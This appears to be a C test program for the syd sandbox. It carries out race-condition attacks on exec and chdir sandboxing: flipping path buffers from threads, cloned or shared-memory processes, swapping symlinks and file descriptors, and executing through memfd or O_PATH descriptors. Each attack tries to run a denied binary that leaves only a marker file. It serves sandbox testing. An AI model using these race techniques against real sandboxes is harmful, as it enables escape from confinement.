/* syd-exec: attack programs against exec sandboxing (and a raced chdir).
 *
 *   syd-exec mark ALLOWED MARKER
 *       The program the attacks try to run. Its first action: unless it is
 *       the file ALLOWED (by /proc/self/exe), it creates MARKER. A copy of
 *       this binary placed at a denied path therefore leaves MARKER behind
 *       whenever it runs.
 *
 *   syd-exec ATTACK ALLOWED DENIED MARKER SECONDS [KILLS]
 *       Tries, for at most SECONDS, to make the kernel execute DENIED while
 *       the sandbox checks ALLOWED. ALLOWED and DENIED are copies of this
 *       binary with the same name in two sibling directories of equal name
 *       length (BASE/okdir/prog, BASE/nodir/prog). Each attempt is a fresh
 *       child that retries its exec until one succeeds. ATTACK is one of
 *         thread     a thread of the exec'ing process flips the path buffer
 *         clone-vm   a CLONE_VM child (another process, same memory) flips it
 *         thread-exec  as thread, but the exec is made by a thread other than
 *                    the leader (the kernel gives it the leader's pid)
 *         vfork      a vfork child execs the path a thread of its parent flips
 *         shm        the path is in a MAP_SHARED page another process writes
 *         dirlink    BASE/dlink -> okdir|nodir swapped; exec BASE/dlink/prog
 *         lastlink   BASE/flink -> okdir/prog|nodir/prog swapped; exec it
 *         fdswap     execveat(N, "", AT_EMPTY_PATH) while a thread dup2()s
 *                    the allowed and the denied file onto N
 *         memfd      execveat(AT_EMPTY_PATH) of a memfd holding DENIED
 *         opath      execveat(AT_EMPTY_PATH) of an O_PATH descriptor of DENIED
 *       Prints "attempts=A killed=K refused=R ran=N". Stops early once
 *       KILLS attempts (3 unless given) were killed (by the sandbox, after
 *       its check before the exec had let them through). Exit status: 0 when MARKER
 *       appeared (the denied program ran), 1 when it never did.
 *
 *   syd-exec traced-after-failed-exec
 *       Makes an exec the kernel refuses (of "/": EACCES), then prints "traced=0" or
 *       "traced=1" from its TracerPid: whether a tracer is attached to it.
 *
 *   syd-exec chdir-flip ALLOWED_DIR DENIED_DIR FILE SECONDS
 *       A thread flips chdir's path between the two directories until the
 *       process lands in DENIED_DIR; then it tries to read FILE there, list
 *       the directory and stat FILE. Prints what each gave. Exit status: 0
 *       when any of them gained something, 1 when it landed and gained
 *       nothing, 2 when it never landed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef AT_EMPTY_PATH
#define AT_EMPTY_PATH 0x1000
#endif

static const char* allowed;
static const char* denied;
static const char* marker;
static char* volatile flip_buf; /* the path the exec'ing child names */
static size_t flip_len;
static int flip_fd = -1, allowed_fd = -1, denied_fd = -1;
static char* child_argv[5];
/* Counts flips, so an attempt starts only once its accomplice runs. */
static volatile long* flips;

static void jitter(unsigned* seed);

/* Waits until the accomplice has flipped a few times, then for a random
 * time, so the exec starts at any point of a flip. */
static void wait_for_flips(void) {
  long start = *flips;
  while (*flips < start + 3) {}
  unsigned seed = (unsigned)getpid() * 2246822519u + 7;
  jitter(&seed);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int mark(const char* ok, const char* where) {
  char self[PATH_MAX];
  ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
  self[n > 0 ? n : 0] = 0;
  if (strcmp(self, ok) != 0) {
    int fd = open(where, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) {
      (void)!write(fd, self, strlen(self));
      close(fd);
    }
  }
  return 0;
}

/* Sleeps for a pseudo-random time of up to ~60 µs: the window between the
 * sandbox's read of the path and the kernel's is of that order, so flips
 * at every scale of it are tried. Sleeping (rather than spinning) keeps
 * the accomplice running on a loaded machine: the scheduler runs a thread
 * that wakes from a short sleep promptly, a spinning one only for its
 * share. */
static void jitter(unsigned* seed) {
  *seed ^= *seed << 13;
  *seed ^= *seed >> 17;
  *seed ^= *seed << 5;
  struct timespec t = {0, (long)(*seed % 60000)};
  nanosleep(&t, NULL);
}

/* Writes ALLOWED and DENIED into the buffer in turn, forever. */
static void flip_forever(char* buf) {
  unsigned seed = (unsigned)gettid() * 2654435761u + 1;
  for (;;) {
    if (flips) ++*flips;
    memcpy(buf, allowed, flip_len + 1);
    jitter(&seed);
    memcpy(buf, denied, flip_len + 1);
    jitter(&seed);
  }
}

static void* flip_thread(void* arg) {
  (void)arg;
  flip_forever(flip_buf);
  return NULL;
}

static int flip_clone(void* arg) {
  (void)arg;
  syscall(SYS_prctl, PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
  flip_forever(flip_buf);
  return 0;
}

static void* dup_thread(void* arg) {
  (void)arg;
  unsigned seed = (unsigned)gettid() * 2654435761u + 1;
  for (;;) {
    ++*flips;
    dup2(allowed_fd, flip_fd);
    jitter(&seed);
    dup2(denied_fd, flip_fd);
    jitter(&seed);
  }
  return NULL;
}

/* Retries the exec until one succeeds; returns the last errno. */
static int exec_loop(const char* path) {
  int err = 0;
  for (int i = 0; i < 20000; ++i) {
    execve(path, child_argv, environ);
    err = errno;
  }
  return err;
}

static int execveat_loop(int fd) {
  int err = 0;
  for (int i = 0; i < 20000; ++i) {
    syscall(SYS_execveat, fd, "", child_argv, environ, AT_EMPTY_PATH);
    err = errno;
  }
  return err;
}

static int copy_into(int to, const char* from) {
  int in = open(from, O_RDONLY | O_CLOEXEC);
  if (in < 0) return -1;
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0)
    if (write(to, buf, (size_t)n) != n) return -1;
  close(in);
  return 0;
}

static char* dir_of(const char* p) {
  char* d = strdup(p);
  char* s = strrchr(d, '/');
  if (s) *s = 0;
  return d;
}

static const char* base_of(const char* p) {
  const char* s = strrchr(p, '/');
  return s ? s + 1 : p;
}

/* Swaps symlink LINK between two targets, forever (rename is atomic). */
static void swap_forever(const char* link, const char* a, const char* b) {
  char tmp[PATH_MAX];
  unsigned seed = (unsigned)getpid() * 2654435761u + 1;
  snprintf(tmp, sizeof tmp, "%s.tmp", link);
  for (int i = 0;; ++i) {
    unlink(tmp);
    if (symlink(i & 1 ? b : a, tmp) == 0) rename(tmp, link);
    jitter(&seed);
  }
}

static void* exec_thread(void* arg) {
  (void)arg;
  _exit(100 + exec_loop((const char*)flip_buf));
  return NULL;
}

/* One attempt, in a fresh child. Never returns. */
static void attempt(const char* attack, const char* link) {
  if (!strcmp(attack, "thread")) {
    pthread_t t;
    pthread_create(&t, NULL, flip_thread, NULL);
    wait_for_flips();
    _exit(100 + exec_loop((const char*)flip_buf));
  }
  if (!strcmp(attack, "thread-exec")) {
    pthread_t t, e;
    pthread_create(&t, NULL, flip_thread, NULL);
    wait_for_flips();
    pthread_create(&e, NULL, exec_thread, NULL);
    for (;;) pause();
  }
  if (!strcmp(attack, "vfork")) {
    pthread_t t;
    pthread_create(&t, NULL, flip_thread, NULL);
    wait_for_flips();
    for (int i = 0; i < 20000; ++i) {
      pid_t c = vfork();
      if (c == 0) {
        execve((const char*)flip_buf, child_argv, environ);
        _exit(127);
      }
      int status;
      while (waitpid(c, &status, 0) < 0 && errno == EINTR) {}
      /* What became of the program the child executed is this attempt's. */
      if (WIFSIGNALED(status)) raise(WTERMSIG(status));
      if (!WIFEXITED(status) || WEXITSTATUS(status) != 127) _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 99);
    }
    _exit(100 + EPERM);
  }
  if (!strcmp(attack, "clone-vm")) {
    size_t sz = 256 * 1024;
    char* stack = mmap(NULL, sz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
    if (clone(flip_clone, stack + sz, CLONE_VM | SIGCHLD, NULL) < 0) _exit(99);
    wait_for_flips();
    _exit(100 + exec_loop((const char*)flip_buf));
  }
  if (!strcmp(attack, "shm")) {  /* flipped by another process */
    wait_for_flips();
    _exit(100 + exec_loop((const char*)flip_buf));
  }
  if (!strcmp(attack, "dirlink") || !strcmp(attack, "lastlink")) _exit(100 + exec_loop(link));
  if (!strcmp(attack, "fdswap")) {
    allowed_fd = open(allowed, O_PATH | O_CLOEXEC);
    denied_fd = open(denied, O_PATH | O_CLOEXEC);
    flip_fd = fcntl(allowed_fd, F_DUPFD_CLOEXEC, 100);
    pthread_t t;
    pthread_create(&t, NULL, dup_thread, NULL);
    wait_for_flips();
    _exit(100 + execveat_loop(flip_fd));
  }
  if (!strcmp(attack, "memfd")) {
    int fd = (int)syscall(SYS_memfd_create, "prog", 1 /* MFD_CLOEXEC */);
    if (fd < 0 || copy_into(fd, denied) != 0) _exit(99);
    syscall(SYS_execveat, fd, "", child_argv, environ, AT_EMPTY_PATH);
    _exit(100 + errno);
  }
  if (!strcmp(attack, "opath")) {
    int fd = open(denied, O_PATH | O_CLOEXEC);
    if (fd < 0) _exit(99);
    syscall(SYS_execveat, fd, "", child_argv, environ, AT_EMPTY_PATH);
    _exit(100 + errno);
  }
  _exit(98);
}

static long max_kills = 3;

static int attack_main(const char* attack, double seconds) {
  flip_len = strlen(allowed);
  if (strlen(denied) != flip_len) {
    fprintf(stderr, "syd-exec: ALLOWED and DENIED must have the same length\n");
    return 2;
  }
  child_argv[0] = (char*)"prog";
  child_argv[1] = (char*)"mark";
  child_argv[2] = (char*)allowed;
  child_argv[3] = (char*)marker;
  child_argv[4] = NULL;
  const int shared = !strcmp(attack, "shm");
  flip_buf = shared ? mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0) : malloc(PATH_MAX);
  memcpy(flip_buf, allowed, flip_len + 1);
  flips = shared ? (volatile long*)(flip_buf + 2048) : calloc(1, sizeof(long));

  /* Long-running accomplices: another process writing the shared page, or
   * swapping symlinks. */
  pid_t accomplice = -1;
  char link[PATH_MAX] = "";
  if (shared) {
    accomplice = fork();
    if (accomplice == 0) flip_forever(flip_buf);
  } else if (!strcmp(attack, "dirlink") || !strcmp(attack, "lastlink")) {
    char* okdir = dir_of(allowed);
    char* nodir = dir_of(denied);
    char* base = dir_of(okdir);
    if (!strcmp(attack, "dirlink")) {
      char l[PATH_MAX / 2];
      snprintf(l, sizeof l, "%s/dlink", base);
      snprintf(link, sizeof link, "%s/%s", l, base_of(allowed));
      unlink(l);
      if (symlink(okdir, l) != 0) return 2;
      accomplice = fork();
      if (accomplice == 0) swap_forever(l, okdir, nodir);
    } else {
      snprintf(link, sizeof link, "%s/flink", base);
      unlink(link);
      if (symlink(allowed, link) != 0) return 2;
      accomplice = fork();
      if (accomplice == 0) swap_forever(link, allowed, denied);
    }
  }

  long attempts = 0, killed = 0, refused = 0, ran = 0;
  const double end = now() + seconds;
  struct stat st;
  /* Three attempts stopped after the sandbox's first check let them
   * through are enough to show the race was won and lost. */
  while (now() < end && stat(marker, &st) != 0 && killed < max_kills) {
    pid_t c = fork();
    if (c == 0) attempt(attack, link);
    int status;
    while (waitpid(c, &status, 0) < 0 && errno == EINTR) {}
    ++attempts;
    if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL) ++killed;
    else if (WIFEXITED(status) && WEXITSTATUS(status) >= 100) ++refused;
    else if (WIFEXITED(status) && WEXITSTATUS(status) == 0) ++ran;
  }
  if (accomplice > 0) {
    kill(accomplice, SIGKILL);
    waitpid(accomplice, NULL, 0);
  }
  int won = stat(marker, &st) == 0;
  printf("attempts=%ld killed=%ld refused=%ld ran=%ld marker=%d\n", attempts, killed, refused, ran, won);
  return won ? 0 : 1;
}

/* ---- chdir ---- */

static const char* chdir_a;
static const char* chdir_b;
static char chdir_buf[PATH_MAX];

static void* chdir_flip(void* arg) {
  (void)arg;
  size_t n = strlen(chdir_a) + 1;
  for (;;) {
    memcpy(chdir_buf, chdir_a, n);
    for (volatile int i = 0; i < 50; ++i) {}
    memcpy(chdir_buf, chdir_b, n);
    for (volatile int i = 0; i < 50; ++i) {}
  }
  return NULL;
}

static const char* err_name(int e) {
  switch (e) {
    case 0: return "ok";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    default: return strerror(e);
  }
}

static int chdir_main(const char* file, double seconds) {
  if (strlen(chdir_a) != strlen(chdir_b)) return 3;
  memcpy(chdir_buf, chdir_a, strlen(chdir_a) + 1);
  pthread_t t;
  pthread_create(&t, NULL, chdir_flip, NULL);
  const double end = now() + seconds;
  char cwd[PATH_MAX];
  int landed = 0;
  long tries = 0;
  while (now() < end) {
    ++tries;
    if (chdir(chdir_buf) == 0 && getcwd(cwd, sizeof cwd) && !strcmp(cwd, chdir_b)) {
      landed = 1;
      break;
    }
  }
  if (!landed) {
    printf("landed=0 tries=%ld\n", tries);
    return 2;
  }
  /* Inside the denied directory: read, list, stat, by relative paths. */
  int gained = 0;
  int e_read = 0, e_list = 0, e_stat = 0, e_statdir = 0;
  int fd = (int)syscall(SYS_openat, AT_FDCWD, file, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    char buf[64];
    if (read(fd, buf, sizeof buf) > 0) gained = 1;
    close(fd);
  } else {
    e_read = errno;
  }
  int dfd = (int)syscall(SYS_openat, AT_FDCWD, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd >= 0) {
    char buf[4096];
    if (syscall(SYS_getdents64, dfd, buf, sizeof buf) > 0) gained = 1;
    close(dfd);
  } else {
    e_list = errno;
  }
  struct stat st;
  if (syscall(SYS_newfstatat, AT_FDCWD, file, &st, 0) == 0) gained = 1;
  else e_stat = errno;
  if (syscall(SYS_newfstatat, AT_FDCWD, ".", &st, 0) == 0) gained = 1;
  else e_statdir = errno;
  printf("landed=1 tries=%ld read=%s list=%s stat=%s statdir=%s\n", tries, err_name(e_read), err_name(e_list),
         err_name(e_stat), err_name(e_statdir));
  return gained ? 0 : 1;
}

static int traced_after_failed_exec(void) {
  char* const args[] = {(char*)"x", NULL};
  execve("/", args, environ);
  if (errno != EACCES) return 2;
  FILE* f = fopen("/proc/self/status", "re");
  if (!f) return 2;
  char line[256];
  long tracer = -1;
  while (fgets(line, sizeof line, f))
    if (!strncmp(line, "TracerPid:", 10)) tracer = atol(line + 10);
  fclose(f);
  if (tracer < 0) return 2;
  printf("traced=%d\n", tracer != 0);
  return 0;
}

int main(int argc, char** argv) {
  if (argc == 4 && !strcmp(argv[1], "mark")) return mark(argv[2], argv[3]);
  if (argc == 2 && !strcmp(argv[1], "traced-after-failed-exec")) return traced_after_failed_exec();
  if (argc == 6 && !strcmp(argv[1], "chdir-flip")) {
    chdir_a = argv[2];
    chdir_b = argv[3];
    setvbuf(stdout, NULL, _IONBF, 0);
    return chdir_main(argv[4], atof(argv[5]));
  }
  if (argc == 6 || argc == 7) {
    if (argc == 7) max_kills = atol(argv[6]);
    allowed = argv[2];
    denied = argv[3];
    marker = argv[4];
    setvbuf(stdout, NULL, _IONBF, 0);
    return attack_main(argv[1], atof(argv[5]));
  }
  fprintf(stderr, "usage: syd-exec mark ALLOWED MARKER | ATTACK ALLOWED DENIED MARKER SECONDS | "
                  "chdir-flip ALLOWED_DIR DENIED_DIR FILE SECONDS\n");
  return 2;
}
